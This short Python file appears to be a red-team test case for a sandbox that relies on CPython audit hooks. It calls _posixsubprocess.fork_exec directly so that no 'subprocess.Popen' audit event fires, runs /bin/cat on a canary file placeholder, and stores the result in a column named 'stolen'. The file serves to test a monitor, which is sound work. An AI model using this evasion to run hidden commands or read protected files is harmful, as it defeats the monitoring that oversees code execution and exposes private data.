# technique: call _posixsubprocess.fork_exec (loaded by subprocess) directly: the "subprocess.Popen" audit event is raised in subprocess.py, the C function raises none; /bin/cat the canary into a pipe (CPython 3.11 signature)
# goal: exec
# redteam: E35 E62
import os
import sys

import pandas as pd

fork_exec = sys.modules["_posixsubprocess"].fork_exec
out_r, out_w = os.pipe()
err_r, err_w = os.pipe()
pid = fork_exec(
    [b"/bin/cat", b"{{CANARY_FILE}}"], (b"/bin/cat",), True, (out_w, err_w), None, None,
    -1, -1, -1, out_w, -1, -1, err_r, err_w, True, False, -1, None, None, None, -1, None, False)
os.close(out_w)
os.close(err_w)
chunks = []
while True:
    chunk = os.read(out_r, 4096)
    if not chunk:
        break
    chunks.append(chunk)
exec_error = os.read(err_r, 4096)
_, status = os.waitpid(pid, 0)
if exec_error or status != 0 or not chunks:
    raise RuntimeError("the child did not run cat")
df = pd.DataFrame({"stolen": [b"".join(chunks).decode("latin-1")]})
